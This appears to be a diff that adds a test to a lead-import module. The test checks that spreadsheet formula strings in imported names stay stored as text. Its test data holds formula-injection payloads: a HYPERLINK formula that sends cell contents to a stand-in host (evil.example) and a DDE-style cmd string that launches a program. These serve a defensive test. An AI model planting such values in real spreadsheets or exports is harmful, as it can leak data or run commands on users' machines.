@@ -449,3 +449,30 @@ def test_legacy_encodings_are_detected(encoding):
     sheet = imports.parse("csv", data)
     assert sheet.headers == ["Имя", "Телефон", "Комментарий"]
     assert [r[1] for r in sheet.rows] == ["Иван Петров", "Мария Сидорова", "Ёлкин Пётр"]
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+async def test_formula_looking_names_are_kept_as_text(uow_factory, make_actor, kind):
+    """A name a spreadsheet would evaluate is imported as the text it is (the export then
+    writes it as text: tests/unit/test_export.py)."""
+    boss = await make_actor(roles=("leader",))
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+9)", "+7 cmd|' /C calc'!A0"]
+    rows = [["ФИО", "Телефон"], *([n, f"+7 916 200-00-0{i}"] for i, n in enumerate(names))]
+    if kind == "csv":
+        data = "\n".join(";".join(f'"{c.replace(chr(34), 2 * chr(34))}"' for c in r) for r in rows)
+        view = await upload(uow_factory, boss, data.encode("utf-8-sig"), "c.csv")
+    else:
+        book = openpyxl.Workbook()
+        for row in rows:
+            book.active.append(row)
+        for cell in book.active["A"]:
+            cell.data_type = "s"  # text cells, as a spreadsheet stores a typed-in '=...
+        out = io.BytesIO()
+        book.save(out)
+        view = await upload(uow_factory, boss, out.getvalue(), "c.xlsx")
+    await dry_run(uow_factory, boss, view.id)
+    done = await run(uow_factory, boss, view.id)
+    assert done.result is not None and done.result.imported == 3
+    async with uow_factory() as uow:
+        stored = (await uow.session.scalars(select(Lead.name).order_by(Lead.id))).all()
+    assert list(stored) == names
